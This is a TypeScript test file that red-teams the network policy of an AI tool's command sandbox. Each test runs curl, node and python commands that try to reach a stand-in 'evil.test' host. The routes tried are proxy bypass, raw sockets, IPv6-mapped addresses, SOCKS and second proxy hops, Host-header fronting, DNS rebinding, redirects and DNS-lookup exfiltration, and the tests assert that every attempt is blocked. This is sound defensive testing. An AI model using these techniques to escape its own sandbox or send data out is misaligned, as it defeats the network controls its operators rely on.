// Red-team tests of the sandbox's network policy, as root and as an unprivileged user, against the
// built CLI (`toolbelt tool bash '{…}' --sandbox` with a policy in ~/.toolbelt/settings.json). Every
// server is on this machine's loopback under a made-up name that only the proxy resolves (pinned
// with `sandbox.network.hosts`); each test looks for an effect: which server got a request.
// Each command first reaches the allowed host (the control: on a toolbelt without the policy it
// is not reached, so every test here fails there), then tries its way out.
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { CliProcesses, cleanEnv, ensureBuiltCli } from "../cli/helpers/cli-binary.js";
import { sandboxUnavailableReason } from "../helpers/prerequisites.js";
import { handOver, type TestUser, testUsers } from "../helpers/test-users.js";

const unavailable = await sandboxUnavailableReason();

vi.setConfig({ testTimeout: 120_000 });

const cli = new CliProcesses();

/** A loopback HTTP server that records the paths it was asked for, and its most connections open at once. */
interface Recorder {
	server: Server;
	port: number;
	paths: string[];
	/** The Host header of each request, in the order of `paths`. */
	hosts: string[];
	connections: { open: number; peak: number };
}

async function recorder(
	host: string,
	answer: (path: string, port: number) => { status: number; headers?: Record<string, string>; body: string },
): Promise<Recorder> {
	const paths: string[] = [];
	const hosts: string[] = [];
	const server = createServer((request, response) => {
		paths.push(request.url ?? "");
		hosts.push(request.headers.host ?? "");
		const reply = answer(request.url ?? "", port());
		response.writeHead(reply.status, reply.headers).end(reply.body);
	});
	const connections = { open: 0, peak: 0 };
	server.on("connection", (socket) => {
		connections.open += 1;
		connections.peak = Math.max(connections.peak, connections.open);
		socket.on("close", () => {
			connections.open -= 1;
		});
	});
	await new Promise<void>((resolve) => server.listen(0, host, resolve));
	const port = () => (server.address() as { port: number }).port;
	return { server, port: port(), paths, hosts, connections };
}

let good: Recorder;
let evil: Recorder;
let evilV6: Recorder | undefined;
let udp: UdpSocket;
const udpReceived: string[] = [];
let udpPort = 0;

beforeAll(async () => {
	evil = await recorder("127.0.0.1", () => ({ status: 200, body: "EVIL-REACHED\n" }));
	good = await recorder("127.0.0.1", (path) =>
		path.startsWith("/redirect")
			? { status: 302, headers: { location: `http://evil.test:${evil.port}/after-redirect` }, body: "" }
			: { status: 200, body: "GOOD-ANSWER\n" },
	);
	evilV6 = await recorder("::1", () => ({ status: 200, body: "EVIL-REACHED\n" })).catch(() => undefined);
	udp = createSocket("udp4");
	udp.on("message", (message) => udpReceived.push(message.toString()));
	await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
	udpPort = udp.address().port;
});

afterAll(() => {
	for (const server of [good?.server, evil?.server, evilV6?.server]) server?.close();
	udp?.close();
});

let outside = "";
beforeEach(async () => {
	ensureBuiltCli();
	outside = await mkdtemp(join("/var/tmp", "toolbelt-sandbox-network-"));
	evil.paths.length = 0;
	if (evilV6) evilV6.paths.length = 0;
	good.paths.length = 0;
	good.hosts.length = 0;
	good.connections.peak = good.connections.open;
	udpReceived.length = 0;
});
afterEach(async () => {
	cli.killAll();
	await rm(outside, { recursive: true, force: true });
});

/** The policy: good.test and its port allowed; evil.test denied; rebind.test allowed by name; `allow` added. */
function settings(allow: string[]) {
	return {
		sandbox: {
			enabled: true,
			network: {
				allow: ["good.test", `127.0.0.1:${good.port}`, "rebind.test", ...allow],
				deny: ["evil.test"],
				hosts: ["good.test=127.0.0.1", "evil.test=127.0.0.1", "rebind.test=127.0.0.1"],
			},
		},
	};
}

/** Runs `command` through the built CLI's sandbox as `user`, with the policy (and `allow` added) in the user's settings. */
async function sandboxed(user: TestUser, command: string, allow: string[] = []) {
	const home = join(outside, "home");
	const project = join(outside, "project");
	await mkdir(join(home, ".toolbelt"), { recursive: true });
	await mkdir(project, { recursive: true });
	await writeFile(join(home, ".toolbelt", "settings.json"), JSON.stringify(settings(allow)));
	await handOver(outside, user);
	const control = `curl -sS -m 20 http://good.test:${good.port}/control; `;
	return cli.run(["tool", "bash", JSON.stringify({ command: control + command }), "--sandbox"], {
		cwd: project,
		user,
		env: cleanEnv({ HOME: home }),
	});
}

function expectControlReached(run: { stdout: string; stderr: string }): void {
	// What the command printed tells why the control request did not arrive (the proxy, curl, the CLI).
	expect(good.paths, run.stdout + run.stderr).toContain("/control");
	expect(run.stdout + run.stderr).toContain("GOOD-ANSWER");
}

describe.skipIf(unavailable !== undefined)("the sandbox's network policy, as root and as an unprivileged user", () => {
	describe.each(testUsers())("as %s", (user) => {
		it("a denied host is refused through the proxy, and the model is told which host", async () => {
			const run = await sandboxed(
				user,
				`curl -sS -m 20 http://evil.test:${evil.port}/denied; echo; curl -sS -m 20 https://evil.test:${evil.port}/tunnel; echo`,
			);
			expectControlReached(run);
			expect(evil.paths).toEqual([]);
			expect(run.stdout + run.stderr).toContain("evil.test");
		});

		it("a host the allow list does not name is refused", async () => {
			const run = await sandboxed(user, `curl -sS -m 20 http://other.test:${evil.port}/unlisted`);
			expectControlReached(run);
			expect(evil.paths).toEqual([]);
		});

		it("a command that ignores the proxy variables reaches nothing (TCP by address, IPv6, UDP)", async () => {
			const script = [
				`const net = require("node:net"), dgram = require("node:dgram");`,
				`for (const host of ["127.0.0.1", "::1"]) net.connect(${evil.port}, host).on("error", () => {}).on("connect", function () { this.end("GET /raw HTTP/1.0\\r\\n\\r\\n"); });`,
				`const socket = dgram.createSocket("udp4"); socket.send("UDP-LEAK", ${udpPort}, "127.0.0.1", () => socket.close());`,
				"setTimeout(() => {}, 1000);",
			].join("\n");
			const run = await sandboxed(
				user,
				`curl -sS -m 5 --noproxy '*' http://127.0.0.1:${evil.port}/direct; curl -sS -m 5 --noproxy '*' -g 'http://[::1]:${evil.port}/direct6'; node -e '${script}'; echo done`,
			);
			expectControlReached(run);
			expect(run.stdout).toContain("done");
			expect(evil.paths).toEqual([]);
			expect(evilV6?.paths ?? []).toEqual([]);
			expect(udpReceived).toEqual([]);
		});

		it("an address the allow list does not name is refused through the proxy (by IPv4 and IPv6)", async () => {
			const run = await sandboxed(
				user,
				`curl -sS -m 20 http://127.0.0.1:${evil.port}/by-address; curl -sS -m 20 -g 'http://[::1]:${evil.port}/by-address6'; curl -sS -m 20 -x socks5h://127.0.0.1:1080 http://127.0.0.1:${evil.port}/socks`,
			);
			expectControlReached(run);
			expect(evil.paths).toEqual([]);
			expect(evilV6?.paths ?? []).toEqual([]);
		});

		it("an IPv6 range in the allow list (::/0) opens no IPv4 address, written as IPv4 or inside IPv6", async () => {
			const run = await sandboxed(
				user,
				[
					`curl -sS -m 20 http://127.0.0.1:${evil.port}/v4`,
					`curl -sS -m 20 -g 'http://[::ffff:127.0.0.1]:${evil.port}/mapped'`,
					`curl -sS -m 20 -g 'http://[::ffff:7f00:1]:${evil.port}/mapped-hex'`,
					`curl -sS -m 20 -p -g 'http://[::ffff:127.0.0.1]:${evil.port}/mapped-tunnel'`,
					`curl -sS -m 20 -x socks5://127.0.0.1:1080 -g 'http://[::ffff:127.0.0.1]:${evil.port}/mapped-socks'`,
				].join("; echo; "),
				["::/0"],
			);
			expectControlReached(run);
			expect(evil.paths).toEqual([]);
			expect(run.stdout + run.stderr).toContain("127.0.0.1");
		});

		it("a command cannot hold more than 256 connections open through the proxy at once", async () => {
			// 300 tunnels to the allowed host, each held open: those past the bound are refused, in words.
			const target = `good.test:${good.port}`;
			const script = [
				`const net = require("node:net"); const total = 300; let ok = 0, refused = 0, settled = 0, said = "";`,
				"const sockets = [];",
				'const settle = (passed, text) => { if (passed) ok += 1; else { refused += 1; said = said || text; } if (++settled === total) { console.log("tunnels " + ok + " refused " + refused); console.log(said); for (const s of sockets) s.destroy(); } };',
				"for (let index = 0; index < total; index += 1) {",
				`  const socket = net.connect(3128, "127.0.0.1", () => socket.write("CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n"));`,
				'  sockets.push(socket); let head = "", done = false;',
				'  socket.on("data", (chunk) => { if (done) return; head += chunk; if (head.includes("\\r\\n\\r\\n")) { done = true; settle(head.startsWith("HTTP/1.1 200"), head); } });',
				'  socket.on("error", () => {}); socket.on("close", () => { if (!done) { done = true; settle(false, head); } });',
				"}",
				'setTimeout(() => { console.log("gave up: tunnels " + ok + " refused " + refused); process.exit(0); }, 90000).unref();',
			].join("\n");
			const run = await sandboxed(user, `node -e '${script}'`);
			expectControlReached(run);
			const output = run.stdout + run.stderr;
			expect(output).toMatch(/tunnels \d+ refused \d+/);
			const [, tunnels = "0", refused = "0"] = /tunnels (\d+) refused (\d+)/.exec(output) ?? [];
			expect(Number(tunnels) + Number(refused)).toBe(300);
			expect(Number(refused), output).toBeGreaterThanOrEqual(44);
			expect(good.connections.peak).toBeLessThanOrEqual(256);
			expect(output).toContain("connections open through the proxy, the most one command may have at once");
		});

		it("a plain request reaches the allowed site only: its Host header is the URL's, a pipelined request goes nowhere", async () => {
			// The allowed address could serve other sites (a CDN, a shared server): the Host header picks one.
			const site = `good.test:${good.port}`;
			const pipelined = `GET http://${site}/first HTTP/1.1\\r\\nHost: ${site}\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`;
			const script = `const s = require("node:net").connect(3128, "127.0.0.1", () => s.write("${pipelined}")); s.on("data", (d) => process.stdout.write(d)); s.on("error", () => {}); setTimeout(() => s.destroy(), 3000);`;
			const run = await sandboxed(
				user,
				[
					`curl -sS -m 20 -H "Host: evil.test" http://${site}/fronted`,
					`curl -sS -m 20 -d body -H "Host: evil.test" http://${site}/fronted-body`,
					`node -e '${script}'`,
				].join("; echo; "),
			);
			expectControlReached(run);
			const hostOf = (path: string) => good.hosts[good.paths.indexOf(path)];
			expect(hostOf("/fronted"), run.stdout + run.stderr).toBe(site);
			expect(hostOf("/fronted-body")).toBe(site);
			expect(good.paths).toContain("/first");
			expect(good.paths).not.toContain("/second");
			expect(good.hosts).not.toContain("evil.test");
		});

		it("an allowed name that resolves to a loopback address the list does not name is refused (rebinding)", async () => {
			const run = await sandboxed(
				user,
				`curl -sS -m 20 http://rebind.test:${evil.port}/rebound; curl -sS -m 20 -x socks5h://127.0.0.1:1080 http://rebind.test:${evil.port}/rebound-socks`,
			);
			expectControlReached(run);
			expect(evil.paths).toEqual([]);
		});

		it("a redirect from an allowed host to a denied one is refused", async () => {
			const run = await sandboxed(user, `curl -sS -m 20 -L http://good.test:${good.port}/redirect`);
			expect(good.paths).toContain("/redirect");
			expect(evil.paths).toEqual([]);
			expect(run.stdout + run.stderr).toContain("evil.test");
		});

		it("a second proxy hop through the allowed host reaches nothing else", async () => {
			// The allowed server as a proxy (it is not one), and the proxy through itself.
			const run = await sandboxed(
				user,
				`curl -sS -m 20 -x http://good.test:${good.port} http://evil.test:${evil.port}/second-hop; curl -sS -m 20 --preproxy socks5h://127.0.0.1:1080 -x http://127.0.0.1:3128 http://evil.test:${evil.port}/via-self; curl -sS -m 20 -p -x http://127.0.0.1:3128 http://evil.test:${evil.port}/tunnel`,
			);
			expectControlReached(run);
			expect(evil.paths).toEqual([]);
		});

		it("DNS names reach no resolver from inside (no exfiltration through name lookups)", async () => {
			const run = await sandboxed(
				user,
				`getent hosts secret-data.evil.test; node -e 'require("node:dns").resolve4("secret-data.example.org", (error) => console.log(error ? "no-dns" : "dns-answered"))'`,
			);
			expectControlReached(run);
			expect(run.stdout).toContain("no-dns");
			expect(run.stdout).not.toContain("dns-answered");
		});

		it("raw sockets (SOCK_RAW, AF_PACKET) cannot be opened, by root in the sandbox too (no CAP_NET_RAW)", async () => {
			// Each socket is opened and, if that worked, used: an ICMP echo to the loopback, a packet on lo.
			const script = [
				"import socket",
				"def attempt(name, make):",
				"    try:",
				"        s = make(); print(name, 'opened')",
				"        if s.family == socket.AF_PACKET: s.bind(('lo', 0)); s.send(b'\\0' * 60)",
				"        elif s.type == socket.SOCK_RAW: s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('127.0.0.1', 0))",
				"        print(name, 'sent')",
				"    except OSError as error:",
				"        print(name, 'errno', error.errno)",
				"attempt('raw-icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))",
				"attempt('raw-tcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))",
				"attempt('raw-ip6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))",
				"attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))",
				"attempt('packet-dgram', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)))",
			].join("\n");
			const run = await sandboxed(user, `/usr/bin/python3 -c "${script}"; echo raw-done`);
			expectControlReached(run);
			expect(run.stdout).toContain("raw-done");
			const lines = run.stdout.split("\n").filter((line) => /^(raw|packet)-?\S* /.test(line));
			// EPERM (1) or EACCES (13): the kernel's answer without CAP_NET_RAW.
			expect(lines.map((line) => line.replace(/errno (1|13)$/, "refused"))).toEqual([
				"raw-icmp refused",
				"raw-tcp refused",
				"raw-ip6 refused",
				"packet refused",
				"packet-dgram refused",
			]);
		});
	});
});
